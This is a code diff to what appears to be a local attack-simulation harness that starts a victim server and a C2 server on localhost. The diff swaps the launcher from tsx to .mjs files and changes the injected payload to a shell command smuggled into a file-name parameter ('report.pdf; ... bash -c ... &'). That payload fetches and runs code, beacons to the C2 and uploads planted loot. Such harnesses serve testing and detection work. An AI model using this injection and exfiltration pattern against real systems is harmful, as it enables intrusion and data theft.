@@ -25,7 +25,7 @@ export interface ScenarioOptions {
   uploadBytes?: number;
   /**
    * A command the victim and C2 processes run under, e.g. `['strace', '-f', '-o', 'trace.txt']` or a
-   * recorder's launcher: each process is started as `[...wrap, node, --import, tsx, program.ts, 0]`.
+   * recorder's launcher: each process is started as `[...wrap, node, program.mjs, 0]`.
    */
   wrap?: string[];
   /** Milliseconds to wait between the servers being up and the attack (time for a recorder to attach). */
@@ -122,7 +122,7 @@ async function plant(dir: string): Promise<ScenarioResult['planted']> {
  * stopped even if starting fails); resolves with what it prints once listening.
  */
 async function startServer(program: string, wrap: string[], children: ChildProcess[]): Promise<ServerInfo> {
-  const argv = [...wrap, process.execPath, '--import', 'tsx', program, '0'];
+  const argv = [...wrap, process.execPath, program, '0'];
   const child = spawn(argv[0]!, argv.slice(1), {
     cwd: HERE,
     detached: true,
@@ -225,7 +225,7 @@ export function injectedCommand(
     'rm -f "$s"',
   ].join('; ');
   const env = `C2_PORT=${c2Port} LOOT_DIR='${lootDir}' BEACONS=${beacons} INTERVAL=${interval} UPLOAD_BYTES=${uploadBytes}`;
-  return `localhost; (${env} bash -c '${fetchAndRun}') </dev/null >/dev/null 2>&1 &`;
+  return `report.pdf; (${env} bash -c '${fetchAndRun}') </dev/null >/dev/null 2>&1 &`;
 }
 
 function positiveInt(name: string, v: number): number {
@@ -252,14 +252,14 @@ export async function runScenario(options: ScenarioOptions = {}): Promise<Scenar
   try {
     const planted = await plant(lootDir);
     const [victim, c2] = await Promise.all([
-      startServer('victim-server.ts', options.wrap ?? [], children),
-      startServer('c2-server.ts', options.wrap ?? [], children),
+      startServer('victim-server.mjs', options.wrap ?? [], children),
+      startServer('c2-server.mjs', options.wrap ?? [], children),
     ]);
     options.onEvent?.({ event: 'started', victim, c2, lootDir });
     if (holdMs > 0) await new Promise((r) => setTimeout(r, holdMs));
 
     const payload = injectedCommand(c2.port, lootDir, beacons, interval, uploadBytes);
-    const url = `http://127.0.0.1:${victim.port}/api/lookup?host=${encodeURIComponent(payload)}`;
+    const url = `http://127.0.0.1:${victim.port}/api/size?name=${encodeURIComponent(payload)}`;
     options.onEvent?.({ event: 'attack', url });
     const response = await get(url, 15_000).catch((error: unknown) => {
       throw new ScenarioError('ATTACK_FAILED', `the injection request failed: ${(error as Error).message}`);
